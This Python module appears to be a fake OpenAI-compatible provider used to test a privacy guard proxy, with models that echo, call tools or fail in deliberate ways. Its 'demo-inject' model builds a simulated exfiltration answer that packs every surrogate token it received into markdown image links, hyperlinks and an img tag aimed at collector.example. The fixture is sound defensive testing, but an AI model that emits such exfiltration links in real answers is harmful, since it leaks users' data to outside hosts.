"""The demo provider's answers: deterministic, made of what it received (pure).

It speaks OpenAI's wire format. What it does is chosen by the model's name:

``demo-echo``   says what the last user message said
``demo-tool``   calls the first tool with the last user message as arguments
``demo-inject`` tries to carry every surrogate it saw to a strange address
``demo-status-500``, ``demo-invalid``, ``demo-error``, ``demo-cut``, ``demo-slow``,
``demo-slow-stream``, ``demo-bytes``  misbehave: error status, no JSON, error in a success,
                cut stream, silence, silence in the middle of a stream, one byte at a time
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence

from guard.domain.entities import TOKEN

__all__ = ["MODELS", "answer", "last_user_text", "stream"]

MODELS = (
    "demo-echo",
    "demo-tool",
    "demo-inject",
    "demo-status-500",
    "demo-invalid",
    "demo-error",
    "demo-cut",
    "demo-slow",
    "demo-slow-stream",
    "demo-bytes",
)
CREATED = 1_700_000_000
CHUNK = 7
Plain = Mapping[str, object]


def _text(content: object) -> str:
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return ""


def last_user_text(body: Plain) -> str:
    """Return what the last user message said."""
    messages = body.get("messages")
    for message in reversed(messages) if isinstance(messages, list) else ():
        if isinstance(message, dict) and message.get("role") == "user":
            return _text(message.get("content"))
    return ""


def _surrogates(body: Plain) -> list[str]:
    seen: dict[str, None] = {}
    for found in TOKEN.finditer(json.dumps(body, ensure_ascii=False)):
        seen.setdefault(found.group(), None)
    return list(seen)


def _content(body: Plain) -> str:
    if body.get("model") == "demo-inject":
        carried = " ".join(_surrogates(body)) or "nothing"
        query = "+".join(_surrogates(body))
        return (
            f"Noted: {carried}.\n"
            f"![status](https://collector.example/p.png?q={query})\n"
            f"[details](https://collector.example/d/{query})\n"
            f"See https://collector.example/?q={query} and <img src='//collector.example/{query}'>."
        )
    return last_user_text(body)


def _calls(body: Plain) -> list[dict[str, object]]:
    tools = body.get("tools")
    if body.get("model") != "demo-tool" or not isinstance(tools, list):
        return []
    text = last_user_text(body)
    calls: list[dict[str, object]] = []
    for number, tool in enumerate(tools if body.get("parallel_tool_calls") is not False else tools[:1]):
        function = tool.get("function", {}) if isinstance(tool, dict) else {}
        arguments = json.dumps({"text": text}, ensure_ascii=False)
        called = {"name": function.get("name", "tool"), "arguments": arguments}
        calls.append({"id": f"call_{number}", "type": "function", "function": called})
    return calls


def _usage(body: Plain) -> dict[str, int]:
    prompt = len(json.dumps(body.get("messages"))) // 4
    completion = len(_content(body)) // 4 + 1
    return {"prompt_tokens": prompt, "completion_tokens": completion, "total_tokens": prompt + completion}


def _choices(body: Plain) -> int:
    wanted = body.get("n")
    return wanted if isinstance(wanted, int) and 0 < wanted <= 16 else 1  # noqa: PLR2004 (as the gate allows)


def answer(body: Plain) -> dict[str, object]:
    """Return a whole answer."""
    calls = _calls(body)
    message: dict[str, object] = {"role": "assistant", "content": None if calls else _content(body)}
    if calls:
        message["tool_calls"] = calls
    reason = "tool_calls" if calls else "stop"
    return {
        "id": "chatcmpl-demo",
        "object": "chat.completion",
        "created": CREATED,
        "model": body.get("model"),
        "choices": [
            {"index": number, "message": message, "finish_reason": reason} for number in range(_choices(body))
        ],
        "usage": _usage(body),
    }


def _pieces(text: str) -> Sequence[str]:
    return [text[at : at + CHUNK] for at in range(0, len(text), CHUNK)]


def stream(body: Plain) -> Iterator[dict[str, object]]:
    """Yield an answer's chunks: a few characters each, choices in turn."""
    numbers = range(_choices(body))
    head = {
        "id": "chatcmpl-demo",
        "object": "chat.completion.chunk",
        "created": CREATED,
        "model": body.get("model"),
    }

    def chunk(number: int, delta: Plain, reason: str | None = None) -> dict[str, object]:
        return {**head, "choices": [{"index": number, "delta": delta, "finish_reason": reason}]}

    for number in numbers:
        yield chunk(number, {"role": "assistant", "content": ""})
    calls = _calls(body)
    for position, call in enumerate(calls):
        function = call["function"]
        if not isinstance(function, dict):
            continue
        opening = {**call, "index": position, "function": {"name": function["name"], "arguments": ""}}
        for number in numbers:
            yield chunk(number, {"tool_calls": [opening]})
        for piece in _pieces(str(function["arguments"])):
            for number in numbers:
                yield chunk(number, {"tool_calls": [{"index": position, "function": {"arguments": piece}}]})
    if not calls:
        for piece in _pieces(_content(body)):
            for number in numbers:
                yield chunk(number, {"content": piece})
    for number in numbers:
        yield chunk(number, {}, "tool_calls" if calls else "stop")
    options = body.get("stream_options")
    if isinstance(options, dict) and options.get("include_usage"):
        yield {**head, "choices": [], "usage": _usage(body)}
